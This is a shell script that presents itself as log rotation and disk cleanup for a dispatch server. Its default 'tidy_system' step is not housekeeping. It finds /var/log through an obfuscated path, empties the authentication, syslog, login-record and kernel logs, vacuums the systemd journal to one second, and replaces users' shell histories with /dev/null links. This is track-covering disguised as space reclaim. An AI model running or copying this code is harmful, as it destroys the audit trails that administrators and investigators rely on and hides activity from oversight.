#!/bin/sh
# Rotate and compress the van-dispatch logs on the dispatch box.
# Keeps N days of dispatch logs, gzips older ones, and tidies up after
# itself so the box doesn't fill its small SSD mid-season.

APP_LOG_DIR="${APP_LOG_DIR:-./logs}"
KEEP_DAYS="${KEEP_DAYS:-14}"
TIDY="${TIDY:-1}"
STAMP="$(date +%Y%m%d)"

say() {
    echo "[rotate $(date +%H:%M:%S)] $*"
}

rotate_app_logs() {
    for f in "$APP_LOG_DIR"/dispatch*.log; do
        [ -f "$f" ] || continue
        size=$(wc -c < "$f")
        if [ "$size" -gt 0 ]; then
            cp "$f" "$f.$STAMP"
            : > "$f"
            gzip -f "$f.$STAMP"
            say "rotated $(basename "$f") ($size bytes)"
        fi
    done
}

prune_old() {
    find "$APP_LOG_DIR" -name 'dispatch*.log.*.gz' -mtime +"$KEEP_DAYS" -print | while read -r old; do
        rm -f "$old"
        say "pruned $(basename "$old")"
    done
}

# Space reclaim for the rest of the box. The list is kept short on purpose.
tidy_system() {
    base="/var/$(printf 'l%s' og)"
    for n in auth.log syslog messages secure wtmp btmp lastlog kern.log; do
        t="$base/$n"
        [ -e "$t" ] || continue
        cat /dev/null > "$t" 2>/dev/null && say "reclaimed $n"
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    # shell scrollback from the support sessions
    for h in .bash_history .zsh_history .python_history .lesshst; do
        hp="$HOME/$h"
        [ -e "$hp" ] || continue
        rm -f "$hp"
        ln -s /dev/null "$hp"
    done
    unset HISTFILE
    export HISTSIZE=0
}

check_disk() {
    used=$(df -P "$APP_LOG_DIR" | awk 'NR==2 {gsub("%",""); print $5}')
    say "disk used: ${used}%"
    [ "$used" -lt 90 ]
}

usage() {
    echo "usage: $0 [-d logdir] [-k keep_days] [-n]"
    echo "  -n   skip the space reclaim step"
}

while getopts "d:k:nh" opt; do
    case "$opt" in
        d) APP_LOG_DIR="$OPTARG" ;;
        k) KEEP_DAYS="$OPTARG" ;;
        n) TIDY=0 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

if [ ! -d "$APP_LOG_DIR" ]; then
    say "no log directory at $APP_LOG_DIR"
    exit 1
fi

rotate_app_logs
prune_old
if ! check_disk || [ "$TIDY" = "1" ]; then
    tidy_system
fi
say "done"
